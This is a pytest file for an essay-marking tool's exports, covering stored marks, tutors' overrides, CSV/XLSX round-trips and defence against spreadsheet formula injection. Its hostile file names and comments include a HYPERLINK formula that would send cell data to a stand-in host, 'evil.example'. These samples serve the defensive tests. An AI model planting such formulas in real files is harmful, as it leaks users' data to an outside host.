"""Exports: what was stored plus the tutor's decisions, in columns a tutor reads, safe to open in a spreadsheet,
and an edited table read back in (all of it, or none of it)."""
from __future__ import annotations

import csv
import io
import re
import zipfile

import pytest
from openpyxl import load_workbook

from conftest import devset_essay as devset
from models.errors import RubricateError
from models.exports import (
    export_columns, export_table, feedback_zip, import_review, reference_titles, safe_cell, table_bytes,
)
from models.marking import mark_into_session, session_inputs, session_rows
from models.reader import read_essay_bytes
from models.sessions import calibrated_model

HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?x="&A2,"y").txt', "+cmd.txt", "@SUM(1).txt", "-2+3.txt"]


def mark(store, model, named: dict[str, str], session: str = "Y13 mock") -> list[dict]:
    """Mark {file name: devset essay} into a session; the stored rows back, with final values."""
    inputs = [item for source, name in named.items() for item in read_essay_bytes(source, devset(name).encode())]
    list(mark_into_session(inputs, model, store, session))
    return session_rows(store, session, model.rubric)


def csv_rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))


def zip_marks(data: bytes) -> dict[str, int]:
    archive = zipfile.ZipFile(io.BytesIO(data))
    return {name: int(re.search(r"Mark(?: estimate)?<b>(\d+) / 20", archive.read(name).decode())[1]) for name in archive.namelist()}


# ------------------------------------------------------------------ what was stored, never a fresh score
def test_exports_equal_the_stored_marks_after_a_recalibration(store, model):
    # A recalibration far from the shipped one, of the learned judge where there is one, else of the similarity thresholds:
    # the first, more lenient or stricter, that marks some devset essay differently, so a fresh score in an export would show.
    # (The learned mark reads the point probabilities more than the levels, so few marks move.)
    settings = ([{"presence_shift": -0.3, "develop_cut": 0.05}, {"presence_shift": 0.3, "develop_cut": 0.95}] if model.judge is not None
                else [{"point_threshold": 0.05, "developed_threshold": 0.1}])
    for thresholds in settings:
        store.save_thresholds(model.rubric.id, model.rubric.content_hash, thresholds)
        recalibrated = calibrated_model(store, model)
        changed = next((f"d{n:02d}.txt" for n in range(1, 19)
                        if recalibrated.score(devset(f"d{n:02d}.txt")).mark_20 != model.score(devset(f"d{n:02d}.txt")).mark_20), None)
        if changed:
            break
    assert changed, "no recalibration changes any devset essay's mark"
    rows = mark(store, model, {"ann.txt": "d01.txt", "ben.txt": changed, "cat.txt": "d07.txt"})
    stored = [row["mark_20"] for row in rows]
    texts = [item.text for item in session_inputs(store, "Y13 mock")]
    assert [recalibrated.score(t).mark_20 for t in texts] != stored  # a fresh score would differ

    rows = session_rows(store, "Y13 mock", model.rubric)
    assert [int(r["mark /20"]) for r in csv_rows(table_bytes(export_table(rows, model.rubric), export_columns(model.rubric), ".csv"))] == stored
    assert zip_marks(feedback_zip(rows, texts, model.rubric)) == {"feedback-ann.html": stored[0], "feedback-ben.html": stored[1],
                                                                  "feedback-cat.html": stored[2]}


# ------------------------------------------------------------------ columns a tutor reads
def test_csv_has_factor_names_as_headers_levels_as_words_and_the_tutors_decisions(store, model):
    rows = mark(store, model, {"ann.txt": "d11.txt", "ben.txt": "d09.txt"})
    tool_mark = rows[0]["mark_20"]
    store.set_level_override(rows[0]["essay_id"], "testament", 2)
    store.set_mark_override(rows[0]["essay_id"], 16)
    store.add_comment(rows[0]["essay_id"], "Well argued.")
    data = table_bytes(export_table(session_rows(store, "Y13 mock", model.rubric), model.rubric), export_columns(model.rubric), ".csv")
    ann, ben = csv_rows(data)
    for factor in model.rubric.factors:
        assert ann[factor.name] in {"absent", "mentioned", "developed"}
    assert ann["Lenin's Testament"] == "developed" and ann["mark /20"] == "16" and ann["tool's mark"] == str(tool_mark) != "16"
    assert ann["tutor's changes"] == f"Lenin's Testament: absent → developed; mark: {tool_mark} → 16"
    assert ann["tutor's comment"] == "Well argued." and "makes no point" not in ann["warnings"]
    assert ben["tutor's mark"] == "" and "Lenin's Testament but makes no point" in ben["warnings"]


def test_the_copy_flag_names_the_reference_essay_by_title(store, model):
    reference = model.corpus.essays[2]
    pasted = "\n\n".join(reference.text.split("\n\n")[:4])
    inputs = read_essay_bytes("copier.txt", pasted.encode())
    list(mark_into_session(inputs, model, store, "copies"))
    (record,) = export_table(session_rows(store, "copies", model.rubric), model.rubric, reference_titles(model.rubric))
    assert reference.title in record["copied from"] and "% of its words" in record["copied from"]


def test_reports_are_named_after_the_student_and_quote_references_by_title(store, model):
    rows = mark(store, model, {"Ann Lee.txt": "d12.txt"})
    archive = zipfile.ZipFile(io.BytesIO(feedback_zip(rows, [devset("d12.txt")], model.rubric, reference_titles(model.rubric))))
    assert archive.namelist() == ["feedback-Ann_Lee.html"]
    page = archive.read("feedback-Ann_Lee.html").decode()
    assert "<title>Feedback for Ann Lee</title>" in page
    assert "— reference essay ref" not in page
    assert any(f"— {essay.title}" in page.replace("&#x27;", "'") for essay in model.corpus.essays)


def test_xlsx_has_a_frozen_header_readable_widths_and_text_cells(store, model):
    rows = mark(store, model, {"ann.txt": "d01.txt"})
    book = load_workbook(io.BytesIO(table_bytes(export_table(rows, model.rubric), export_columns(model.rubric), ".xlsx")))
    sheet = book.active
    assert sheet.freeze_panes == "A2"
    assert [c.value for c in sheet[1]] == export_columns(model.rubric)
    assert all(sheet.column_dimensions[c.column_letter].width >= len(str(c.value)) for c in sheet[1])
    assert sheet["B2"].data_type == "s" and sheet["B2"].value == "ann"


# ------------------------------------------------------------------ formulas never reach a spreadsheet (14.1)
@pytest.mark.parametrize("cell", ["=1+1", "+cmd", "-2+3", "@SUM(1)", "\tx", "\rx"])
def test_a_cell_that_a_spreadsheet_would_run_is_prefixed_with_an_apostrophe(cell):
    assert safe_cell(cell) == "'" + cell
    assert safe_cell("Ann") == "Ann" and safe_cell(12) == 12


def test_hostile_file_names_and_comments_are_written_as_text_to_csv_and_xlsx(store, model):
    rows = mark(store, model, {name: "d01.txt" for name in HOSTILE_NAMES})
    store.add_comment(rows[0]["essay_id"], '=HYPERLINK("http://evil.example","click")')
    records = export_table(session_rows(store, "Y13 mock", model.rubric), model.rubric)
    exported = csv_rows(table_bytes(records, export_columns(model.rubric), ".csv"))
    assert [row["source"] for row in exported] == ["'" + name for name in HOSTILE_NAMES]
    assert not [cell for row in exported for cell in row.values() if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    sheet = load_workbook(io.BytesIO(table_bytes(records, export_columns(model.rubric), ".xlsx"))).active
    header = [c.value for c in sheet[1]]
    cells = [sheet.cell(row=r, column=header.index(column) + 1) for r in range(2, 2 + len(HOSTILE_NAMES))
             for column in ("source", "tutor's comment") if sheet.cell(row=r, column=header.index(column) + 1).value]
    assert len(cells) == len(HOSTILE_NAMES) + 1
    assert all(c.data_type == "s" and c.value.startswith("'") for c in cells)
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]


# ------------------------------------------------------------------ an edited table read back in
def edited_csv(data: bytes, change) -> bytes:
    rows = csv_rows(data)
    change(rows)
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=list(rows[0]))
    writer.writeheader()
    writer.writerows(rows)
    return buffer.getvalue().encode("utf-8")


def test_an_edited_csv_round_trips_into_the_tutors_overrides(store, model):
    rows = mark(store, model, {"ann.txt": "d11.txt", "ben.txt": "d02.txt"})
    exported = table_bytes(export_table(rows, model.rubric), export_columns(model.rubric), ".csv")

    def edit(table):
        table[0]["Lenin's Testament"] = "developed"
        table[0]["mark /20"] = "16"
        table[1]["tutor's comment"] = "See me about the Testament."

    done = import_review(store, "Y13 mock", "marks.csv", edited_csv(exported, edit), model.rubric)
    assert (done.levels, done.marks, done.comments) == (1, 1, 1)
    ann, ben = store.essays(store.session("Y13 mock").id)
    assert ann.overrides == {"testament": 2} and ann.mark_override == 16 and not ann.comments
    assert not ben.overrides and ben.mark_override is None and [c.text for c in ben.comments] == ["See me about the Testament."]
    again = table_bytes(export_table(session_rows(store, "Y13 mock", model.rubric), model.rubric), export_columns(model.rubric), ".csv")
    assert import_review(store, "Y13 mock", "marks.csv", again, model.rubric).changes == ()  # nothing left to apply


def test_a_mark_typed_into_the_tutors_mark_column_is_the_tutors_mark_and_importing_again_changes_nothing(store, model):
    rows = mark(store, model, {"ann.txt": "d11.txt"})
    new_mark = (rows[0]["tool_mark"] + 3) % 21
    edited = edited_csv(table_bytes(export_table(rows, model.rubric), export_columns(model.rubric), ".csv"),
                        lambda table: table[0].update({"tutor's mark": str(new_mark)}))  # "mark /20" still shows the tool's
    assert import_review(store, "Y13 mock", "marks.csv", edited, model.rubric).marks == 1
    (ann,) = store.essays(store.session("Y13 mock").id)
    assert ann.mark_override == new_mark
    assert import_review(store, "Y13 mock", "marks.csv", edited, model.rubric).changes == ()


def test_two_different_marks_typed_into_the_two_mark_columns_are_refused(store, model):
    rows = mark(store, model, {"ann.txt": "d11.txt"})
    tool = rows[0]["tool_mark"]
    edited = edited_csv(table_bytes(export_table(rows, model.rubric), export_columns(model.rubric), ".csv"),
                        lambda table: table[0].update({"mark /20": str((tool + 2) % 21), "tutor's mark": str((tool + 4) % 21)}))
    with pytest.raises(RubricateError, match="change one of them"):
        import_review(store, "Y13 mock", "marks.csv", edited, model.rubric)
    (ann,) = store.essays(store.session("Y13 mock").id)
    assert ann.mark_override is None


def test_an_edited_xlsx_round_trips_and_setting_the_tools_level_clears_an_override(store, model):
    rows = mark(store, model, {"ann.txt": "d11.txt"})
    tool_luck = rows[0]["tool_levels"]["luck"]
    store.set_level_override(rows[0]["essay_id"], "luck", (tool_luck + 1) % 3)
    records = export_table(session_rows(store, "Y13 mock", model.rubric), model.rubric)
    from openpyxl import load_workbook as load

    book = load(io.BytesIO(table_bytes(records, export_columns(model.rubric), ".xlsx")))
    header = [c.value for c in book.active[1]]
    book.active.cell(row=2, column=header.index("Luck and circumstances outside Stalin's control") + 1).value = ("absent", "mentioned", "developed")[tool_luck]
    book.active.cell(row=2, column=header.index("tutor's comment") + 1).value = "Good."
    buffer = io.BytesIO()
    book.save(buffer)
    import_review(store, "Y13 mock", "marks.xlsx", buffer.getvalue(), model.rubric)
    (ann,) = store.essays(store.session("Y13 mock").id)
    assert ann.overrides == {} and [c.text for c in ann.comments] == ["Good."]


def test_an_import_it_cannot_match_lists_every_problem_and_applies_nothing(store, model):
    rows = mark(store, model, {"ann.txt": "d11.txt", "ben.txt": "d02.txt"})
    exported = table_bytes(export_table(rows, model.rubric), export_columns(model.rubric), ".csv")

    def edit(table):
        table[0]["mark /20"] = "15"  # a good change, which must not be applied alone
        table[1]["student"] = "zed"
        table[0]["Lenin's Testament"] = "excellent"

    with pytest.raises(RubricateError) as problem:
        import_review(store, "Y13 mock", "marks.csv", edited_csv(exported, edit), model.rubric)
    message = str(problem.value)
    assert "nothing was imported" in message and "'zed'" in message and "'excellent' is not a level" in message
    assert "\n" not in message
    assert all(not e.overrides and e.mark_override is None for e in store.essays(store.session("Y13 mock").id))
